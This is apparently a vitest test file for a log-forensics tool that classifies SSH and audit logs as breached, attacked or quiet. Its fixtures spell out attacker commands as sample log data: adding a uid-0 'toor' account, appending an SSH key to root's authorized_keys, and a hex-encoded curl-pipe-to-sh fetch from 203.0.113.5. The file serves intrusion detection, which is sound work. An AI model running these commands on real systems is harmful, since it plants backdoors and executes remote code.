import { describe, expect, test } from 'vitest';
import { investigateFiles, LogWriter } from './scenario.ts';

const LOG = 'web1/var/log/auth.log';
const log = () => new LogWriter('web1', '2026-05-10T08:00:00Z').life(60);

describe('breached', () => {
  test('guesses, then a login by password: entered, with how many tries and for how long', async () => {
    const text = log()
      .fails('203.0.113.9', 'root', 501, 20)
      .fails('203.0.113.9', 'backup', 502, 12)
      .enters('203.0.113.9', 'backup', 503)
      .text();
    const story = await investigateFiles({ [LOG]: text });
    expect(story.verdict).toBe('breached');
    expect(story.entries).toMatchObject([
      {
        host: 'web1',
        user: 'backup',
        method: 'password',
        address: '203.0.113.9',
        failuresBefore: 32,
        guessingSeconds: 96,
      },
    ]);
    expect(story.block).toEqual(['203.0.113.9']);
  });

  test('what was done in the session is told, with the account that was made', async () => {
    const text = log()
      .fails('203.0.113.9', 'backup', 501, 15)
      .enters('203.0.113.9', 'backup', 503)
      .sudo('backup', '/usr/sbin/useradd -o -u 0 toor')
      .say('useradd[700]', 'new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=none')
      .leaves('backup', 503)
      .text();
    const story = await investigateFiles({ [LOG]: text });
    const [session] = story.sessions;
    expect(session).toMatchObject({ user: 'backup', root: true, state: 'closed', stepsTotal: 2 });
    expect(story.findings[0]).toMatchObject({
      title: 'Second account with uid 0',
      level: 'critical',
      session: session?.id,
    });
    expect(story.actions).toEqual(
      expect.arrayContaining([expect.objectContaining({ kind: 'lock_account', target: 'toor' })]),
    );
  });

  test('a later login with a key that the intruder laid down, from elsewhere', async () => {
    const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIKe0WU+bVvKZBd8S3F/Z5xSH3n3Qd0v1fYVbJ0aFq8Xk';
    const opened = log()
      .fails('203.0.113.9', 'backup', 501, 15)
      .enters('203.0.113.9', 'backup', 503)
      .sudo('backup', `/bin/sh -c echo 'ssh-ed25519 ${key} x' >> /root/.ssh/authorized_keys`)
      .leaves('backup', 503)
      .wait(3600);
    const { createHash } = await import('node:crypto');
    const digest = createHash('sha256').update(Buffer.from(key, 'base64')).digest('base64').replace(/=+$/, '');
    const text = opened
      .say('sshd[900]', `Accepted publickey for root from 198.51.100.4 port 50000 ssh2: ED25519 SHA256:${digest}`, 0)
      .say('sshd[900]', 'pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)')
      .text();
    const story = await investigateFiles({ [LOG]: text });
    expect(story.entries.map(({ user, address }) => [user, address])).toEqual([
      ['backup', '203.0.113.9'],
      ['root', '198.51.100.4'],
    ]);
    expect(story.actions).toEqual(
      expect.arrayContaining([expect.objectContaining({ kind: 'remove_key', target: `SHA256:${digest}` })]),
    );
  });

  test('a session whose login line was taken out', async () => {
    const text = log()
      .enters('198.51.100.7', 'mina', 640, 'publickey')
      .leaves('mina', 640)
      .wait(600)
      .say('sshd[700]', 'pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)')
      .life(30)
      .text();
    const story = await investigateFiles({ [LOG]: text });
    expect(story.missing).toMatchObject([{ kind: 'session_without_login', suspicion: 'high', host: 'web1' }]);
    expect(story.verdict).toBe('breached');
    expect(story.confidence).toBe('low');
  });

  test('a web server that ran a fetched script', async () => {
    const audit = [
      'type=SYSCALL msg=audit(1778400000.123:456): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=800 pid=900 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key=(null)\x1dARCH=x86_64 SYSCALL=execve AUID="unset" UID="www-data" GID="www-data" EUID="www-data" SUID="www-data" FSUID="www-data" EGID="www-data" SGID="www-data" FSGID="www-data"',
      `type=EXECVE msg=audit(1778400000.123:456): argc=3 a0="sh" a1="-c" a2=${Buffer.from('curl http://203.0.113.5/x.sh | sh').toString('hex').toUpperCase()}`,
      'type=PROCTITLE msg=audit(1778400000.123:456): proctitle=7368002D63',
    ];
    const story = await investigateFiles({ 'web1/var/log/audit/audit.log': `${audit.join('\n')}\n` });
    expect(story.verdict).toBe('breached');
    expect(story.reasons[0]).toContain('www-data ran');
  });
});

describe('not breached', () => {
  test('the admin who mistyped twice', async () => {
    const text = log()
      .fails('198.51.100.7', 'mina', 501, 2)
      .enters('198.51.100.7', 'mina', 502)
      .sudo('mina', '/usr/bin/apt update')
      .leaves('mina', 502)
      .text();
    const story = await investigateFiles({ [LOG]: text });
    expect(story.verdict).toBe('quiet');
    expect(story.attackers).toEqual([]);
    expect(story.block).toEqual([]);
  });

  test('an agent that offers five keys before the right one', async () => {
    let writer = log();
    for (let key = 0; key < 5; key += 1)
      writer = writer.say(
        'sshd[600]',
        `Failed publickey for mina from 198.51.100.7 port 50000 ssh2: RSA SHA256:${'A'.repeat(42)}${key}`,
      );
    const story = await investigateFiles({ [LOG]: writer.enters('198.51.100.7', 'mina', 600, 'publickey').text() });
    expect(story.verdict).toBe('quiet');
  });

  test('a habitual visitor who forgot the new password', async () => {
    let writer = log();
    for (let day = 0; day < 5; day += 1)
      writer = writer
        .enters('198.51.100.7', 'mina', 610 + day)
        .leaves('mina', 610 + day)
        .wait(7200);
    const text = writer.fails('198.51.100.7', 'mina', 700, 12).enters('198.51.100.7', 'mina', 701).text();
    const story = await investigateFiles({ [LOG]: text });
    expect(story.entries).toEqual([]);
  });

  test('guesses that all failed: attacked, and who', async () => {
    const text = log()
      .fails('203.0.113.9', 'invalid user oracle', 501, 4)
      .fails('203.0.113.9', 'invalid user test', 502, 4)
      .text();
    const story = await investigateFiles({ [LOG]: text });
    expect(story.verdict).toBe('attacked');
    expect(story.attackers).toMatchObject([
      { address: '203.0.113.9', failures: 8, names: ['oracle', 'test'], successAfterFailure: false },
    ]);
  });

  test('a wrong zone is no missing login', async () => {
    const records = Buffer.alloc(384 * 3);
    const writer = log().enters('198.51.100.7', 'mina', 610);
    writeRecord(records, 0, {
      type: 2,
      line: '~',
      user: 'reboot',
      host: '6.1.0',
      at: Date.parse('2026-05-10T00:00:00Z'),
    });
    writeRecord(records, 1, {
      type: 7,
      line: 'pts/0',
      user: 'mina',
      host: '198.51.100.7',
      at: Date.parse('2026-05-10T09:00:00Z'),
    });
    writeRecord(records, 2, { type: 8, line: 'pts/0', user: '', host: '', at: Date.parse('2026-05-10T12:00:00Z') });
    const story = await investigateFiles(
      { [LOG]: writer.life(600).text(), 'web1/var/log/wtmp': records },
      { zone: 'Asia/Seoul' },
    );
    expect(story.verdict).not.toBe('breached');
  });

  test('nothing to tell from', async () => {
    const story = await investigateFiles({ 'notes.txt': 'buy milk\n', 'empty.log': '' });
    expect(story.verdict).toBe('cannot_tell');
    expect(story.totals.unparsed).toBe(1);
  });

  test('a log that begins inside a session', async () => {
    const text = new LogWriter('web1', '2026-05-10T08:00:00Z').leaves('mina', 400).life(120).text();
    const story = await investigateFiles({ [LOG]: text });
    expect(story.verdict).toBe('quiet');
  });
});

describe('the block list', () => {
  test('leaves out private addresses, kept ones, and one with a good login that nothing explains', async () => {
    const text = log()
      .fails('10.1.2.3', 'root', 501, 20)
      .fails('203.0.113.9', 'root', 502, 20)
      .fails('203.0.113.10', 'root', 503, 20)
      .fails('198.51.100.7', 'root', 504, 9)
      .enters('198.51.100.7', 'mina', 505, 'publickey')
      .text();
    const story = await investigateFiles({ [LOG]: text }, { keep: ['203.0.113.10/32'] });
    expect(story.block).toEqual(['203.0.113.9']);
  });
});

function writeRecord(
  into: Buffer,
  at: number,
  record: { type: number; line: string; user: string; host: string; at: number },
): void {
  const start = at * 384;
  into.writeInt16LE(record.type, start);
  into.writeInt32LE(4242, start + 4);
  into.write(record.line, start + 8);
  into.write('ts/0', start + 40);
  into.write(record.user, start + 44);
  into.write(record.host, start + 76);
  into.writeInt32LE(Math.floor(record.at / 1000), start + 340);
}
